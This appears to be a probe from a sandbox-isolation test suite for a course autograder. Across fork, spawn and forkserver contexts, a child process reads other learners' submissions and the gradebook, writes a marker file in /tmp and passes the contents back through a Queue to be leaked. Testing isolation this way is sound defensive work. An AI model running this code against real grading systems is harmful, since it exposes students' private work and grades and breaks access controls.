"""multiprocessing (fork and spawn contexts): a worker process reads other learners' submissions
and the gradebook and sends them back through a Queue; it also writes outside.

Got out: any of those bytes in the output or a marked file on the host.
"""
import multiprocessing as mp


def steal(q):
    import glob
    found = {}
    for path in [f"{_COURSE}/gradebook.db"] + glob.glob(f"{_COURSE}/submitted/*/*/*"):
        try:
            found[path] = open(path, "rb").read()[:1_000_000]
        except Exception as exc:
            found[path] = repr(exc).encode()
    try:
        open(f"/tmp/{_MARK}-mp", "w").write("x")
    except Exception:
        pass
    q.put(found)


for method in ("fork", "spawn", "forkserver"):
    try:
        ctx = mp.get_context(method)
        q = ctx.Queue()
        p = ctx.Process(target=steal, args=(q,))
        p.start()
        for path, data in q.get(timeout=60).items():
            _leak(data, f"{method} {path}")
        p.join(30)
    except Exception as exc:
        print(method, type(exc).__name__, exc)
